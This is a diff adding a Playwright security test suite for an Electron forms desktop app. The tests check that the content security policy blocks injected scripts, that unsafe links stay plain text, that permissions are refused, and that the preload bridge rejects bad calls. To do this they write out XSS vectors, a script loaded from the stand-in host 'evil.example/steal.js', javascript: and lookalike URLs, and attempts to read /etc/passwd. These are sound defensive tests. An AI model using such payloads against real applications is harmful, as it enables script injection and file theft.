@@ -1,0 +1,195 @@
+/// <reference lib="dom" />
+import { type Page } from '@playwright/test';
+import { type LocalApi } from '../electron/local-api';
+import { expect, test } from './fixtures';
+
+// Runtime checks of the security checklist (docs/security-checklist.md) in the real renderer:
+// what a script injected into the page could do, and which links may leave the app.
+
+const FEEDBACK_ID = 'cFb7q2LxWm';
+
+interface Injection {
+  ran: string[];
+  violations: string[];
+}
+
+/**
+ * Tries what an injection bug would let an attacker try, after the app has started: an inline
+ * script, a script from another origin, an inline event handler, markup with an onerror handler
+ * and code in a string. Playwright's own evaluate runs outside the page's policy; everything it adds to the
+ * page is subject to it.
+ */
+async function inject(app: Page): Promise<Injection> {
+  return app.evaluate(async () => {
+    const marks = window as unknown as { __ran?: string[] };
+    marks.__ran = [];
+    const violations: string[] = [];
+    document.addEventListener('securitypolicyviolation', (event) => {
+      violations.push(`${event.effectiveDirective} ${event.blockedURI}`);
+    });
+
+    const inline = document.createElement('script');
+    inline.textContent = "window.__ran.push('inline script')";
+    document.body.append(inline);
+
+    const remote = document.createElement('script');
+    remote.src = 'https://evil.example/steal.js';
+    document.body.append(remote);
+
+    const handler = document.createElement('button');
+    handler.setAttribute('onclick', "window.__ran.push('inline handler')");
+    document.body.append(handler);
+    handler.click();
+
+    const markup = document.createElement('div');
+    markup.innerHTML = `<img src="data:," onerror="window.__ran.push('onerror')">`;
+    document.body.append(markup);
+
+    // A string timer is compiled by the page as eval would be.
+    (setTimeout as unknown as (code: string, ms: number) => void)(
+      "window.__ran.push('string timer')",
+      0,
+    );
+
+    // Violation reports are dispatched as tasks: let them arrive.
+    await new Promise((resolve) => setTimeout(resolve, 300));
+    return { ran: marks.__ran, violations };
+  });
+}
+
+async function connect(app: Page, api: LocalApi): Promise<void> {
+  await app.getByRole('button', { name: 'Connect your account' }).click();
+  const form = app.getByRole('form', { name: 'Connect your account' });
+  await form.getByText('Self-hosted or other').click();
+  await form.getByLabel('Base URL').fill(api.baseUrl);
+  await form.getByLabel('API key').fill(api.apiKey);
+  await form.getByRole('button', { name: 'Connect', exact: true }).click();
+  await expect(app.getByRole('heading', { name: 'Forms' })).toBeVisible();
+}
+
+test.describe('security of the page', () => {
+  test('an injected script, inline handler or string of code does not run, and the policy reports it', async ({
+    app,
+  }) => {
+    await expect(app.locator('[data-state="welcome"]')).toBeVisible();
+    const result = await inject(app);
+    expect(result.ran).toEqual([]);
+    expect(result.violations).toEqual(
+      expect.arrayContaining([
+        expect.stringMatching(/^script-src-elem inline/),
+        expect.stringMatching(/^script-src-elem https:\/\/evil\.example\/steal\.js/),
+        expect.stringMatching(/^script-src-attr inline/),
+        expect.stringMatching(/^script-src eval/),
+      ]),
+    );
+    // The app is still the app.
+    await expect(app.locator('[data-state="welcome"]')).toBeVisible();
+  });
+
+  test('opens https links in answers, and shows javascript:, file: and lookalike addresses as text', async ({
+    app,
+    remoteApi,
+  }) => {
+    const addresses = {
+      safe: 'https://example.com/about',
+      script: 'javascript:alert(document.domain)',
+      file: 'file:///etc/passwd',
+      lookalike: 'https://example.com@evil.example/login',
+      plain: 'http://example.com/about',
+    };
+    for (const [name, url] of Object.entries(addresses)) {
+      await remoteApi.admin.respond(FEEDBACK_ID, { answers: { nm01: `Link ${name}`, wb12: url } });
+    }
+    await connect(app, remoteApi);
+    await app
+      .getByRole('navigation', { name: 'Sections' })
+      .getByRole('link', { name: 'Submissions' })
+      .click();
+    const grid = app.getByRole('grid', { name: 'Submissions' });
+    await expect(grid).toHaveAttribute('data-state', 'ready');
+
+    for (const [name, url] of Object.entries(addresses)) {
+      await app.getByRole('textbox', { name: 'Search submissions' }).fill(`Link ${name}`);
+      const rows = grid.locator('[role="row"][data-submission-id]');
+      await expect(rows).toHaveCount(1);
+      await rows.filter({ hasText: `Link ${name}` }).click();
+      const drawer = app.getByRole('dialog', { name: /^Submission/ });
+      const website = drawer.locator('[data-question-type="URLInput"]');
+      await expect(website).toContainText(url);
+      if (name === 'safe') {
+        const link = website.getByRole('link');
+        await expect(link).toHaveAttribute('href', url);
+        await expect(link).toHaveAttribute('rel', /noreferrer/);
+      } else {
+        await expect(website.getByRole('link')).toHaveCount(0);
+      }
+      await app.keyboard.press('Escape');
+      await expect(drawer).toBeHidden();
+    }
+    // Nowhere on the page does an unsafe address become a link.
+    const unsafeLinks = await app.evaluate(() =>
+      [...document.querySelectorAll('a[href]')]
+        .map((a) => a.getAttribute('href') ?? '')
+        .filter((href) => /^(javascript|file|data):/i.test(href)),
+    );
+    expect(unsafeLinks).toEqual([]);
+  });
+});
+
+// What only the desktop shell decides: each skips itself in browser mode.
+test.describe('security of the Electron shell', () => {
+  test('refuses every permission the page asks for', async ({ app, electronApp }) => {
+    test.skip(electronApp === null, 'Permissions are decided by the Electron session.');
+    await expect(app.locator('[data-state="welcome"]')).toBeVisible();
+    const answers = await app.evaluate(async () => {
+      const media = await navigator.mediaDevices
+        .getUserMedia({ audio: true })
+        .then(() => 'granted')
+        .catch((error: unknown) => (error instanceof Error ? error.name : 'refused'));
+      const location = await new Promise<string>((resolve) =>
+        navigator.geolocation.getCurrentPosition(
+          () => resolve('granted'),
+          (error) => resolve(error.code === error.PERMISSION_DENIED ? 'denied' : 'error'),
+        ),
+      );
+      return { notifications: await Notification.requestPermission(), media, location };
+    });
+    expect(answers.notifications).toBe('denied');
+    expect(answers.media).not.toBe('granted');
+    expect(answers.location).toBe('denied');
+  });
+
+  test('the bridge refuses unknown operations and bad input with an envelope', async ({
+    app,
+    electronApp,
+  }) => {
+    test.skip(electronApp === null, 'The preload bridge exists in Electron only.');
+    await expect(app.locator('[data-state="welcome"]')).toBeVisible();
+    const answers = await app.evaluate(async () => {
+      const bridge = (
+        window as unknown as { formdesk: { invoke(op: unknown, input: unknown): Promise<unknown> } }
+      ).formdesk;
+      return {
+        unknownOp: await bridge.invoke('fs.readFile', { path: '/etc/passwd' }),
+        badInput: await bridge.invoke('workspaces.rename', { id: 42 }),
+        notAString: await bridge.invoke(42, {}),
+      };
+    });
+    for (const answer of Object.values(answers)) {
+      expect(answer).toMatchObject({ ok: false, error: { code: 'INVALID_INPUT' } });
+    }
+  });
+
+  test('a frame inside the page cannot reach the bridge', async ({ app, electronApp }) => {
+    test.skip(electronApp === null, 'The preload bridge exists in Electron only.');
+    await expect(app.locator('[data-state="welcome"]')).toBeVisible();
+    const reach = await app.evaluate(async () => {
+      const frame = document.createElement('iframe');
+      frame.srcdoc = '<p>framed</p>';
+      document.body.append(frame);
+      await new Promise((resolve) => frame.addEventListener('load', resolve, { once: true }));
+      return 'formdesk' in (frame.contentWindow as unknown as Record<string, unknown>);
+    });
+    expect(reach).toBe(false);
+  });
+});
